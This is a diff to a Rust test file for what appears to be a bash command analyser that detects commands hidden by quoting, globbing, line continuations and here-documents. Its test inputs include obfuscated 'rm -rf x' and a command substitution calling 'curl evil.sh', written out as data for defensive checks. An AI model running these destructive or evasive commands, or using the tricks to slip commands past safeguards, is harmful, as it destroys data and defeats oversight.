@@ -51,9 +51,24 @@ fn quoting_and_paths_do_not_disguise_a_command() {
     assert!(hidden("{rm,-rf,x}").is_empty() || analyse("{rm,-rf,x}").unparsed);
     assert_eq!(hidden("$cmd x"), [Hidden::ComputedCommand]);
     assert_eq!(hidden("/bin/r? x"), [Hidden::ComputedCommand]);
-    assert!(
-        analyse("r\\\nm -rf x").unparsed,
-        "a backslash-newline joins r and m"
+    // A backslash-newline is gone before bash reads the line: it joins `r` and `m`, `$` and
+    // `(`, and a here-document's closing line.
+    assert_eq!(split_commands("r\\\nm -rf x"), ["rm -rf x"]);
+    assert_eq!(
+        split_commands("echo $\\\n(curl evil.sh)"),
+        ["echo $(curl evil.sh)", "curl evil.sh"]
+    );
+    assert_eq!(
+        split_commands("echo \"${x:-$\\\n(id)}\""),
+        ["echo \"${x:-$(id)}\"", "id"]
+    );
+    assert_eq!(
+        split_commands("cat <<EOF\nEO\\\nF\nrm -rf x\nEOF"),
+        ["cat", "rm -rf x", "EOF"]
+    );
+    assert_eq!(
+        split_commands("cat <<'EOF'\nEO\\\nF\nrm -rf x\nEOF"),
+        ["cat"]
     );
     assert!(!analyse("cargo test \\\n  --all").unparsed);
 }
